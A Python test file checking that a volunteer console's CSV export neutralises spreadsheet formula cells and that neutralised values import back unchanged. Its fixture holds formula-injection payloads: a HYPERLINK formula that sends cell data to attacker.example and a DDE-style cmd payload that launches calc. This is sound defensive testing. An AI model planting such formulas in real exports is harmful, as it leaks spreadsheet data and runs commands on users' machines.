"""Every CSV the console exports is safe to open in a spreadsheet, and the roster still round-trips."""
import csv
import io
import re
from pathlib import Path

import pytest

from matcher.pairing.roster import check_roster
from matcher.pairing.volunteers import import_roster, vocabularies

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "name": '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "pseudonym": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+44 7700 900123",
}


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_roster_export_neutralises_every_formula_cell(client, signed_in, make_volunteer):
    make_volunteer(**HOSTILE)
    make_volunteer(name="-2+3", pseudonym="\tTabbed", phone="\r+1 555 0100")
    make_volunteer(name="'=already quoted", pseudonym="Ordinary")
    exported = client.get("/console/volunteers.csv").get_data(as_text=True)
    dangerous = [cell for cell in _cells(exported) if cell.startswith(TRIGGERS)]
    assert dangerous == []


def test_a_neutralised_roster_imports_back_to_the_same_values(app, client, signed_in, make_volunteer, make_app):
    originals = [make_volunteer(**HOSTILE), make_volunteer(name="-2+3", pseudonym="\u00c9lodie", phone=None),
                 make_volunteer(name="'=already quoted", pseudonym="'Tis me")]
    expected = [(v.name, v.pseudonym, v.phone) for v in originals]
    exported = client.get("/console/volunteers.csv").get_data(as_text=True)
    rows, problems = check_roster(exported.replace("@example.org", "@example.net"), vocabularies())
    assert problems == []
    assert [(r["name"], r["pseudonym"], r["phone"]) for r in rows] == expected
    assert import_roster(rows) == []


def test_every_csv_writer_goes_through_the_shared_neutraliser():
    package = Path(__file__).resolve().parents[2] / "matcher"
    direct = [str(path.relative_to(package)) for path in package.rglob("*.py")
              if path.name != "csvsafe.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())]
    assert direct == []


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "'=x", "''", "plain", "", "'plain"])
def test_neutralise_and_restore_are_inverse(value):
    from matcher.csvsafe import neutralise, restore

    assert not neutralise(value).startswith(TRIGGERS)
    assert restore(neutralise(value)) == value
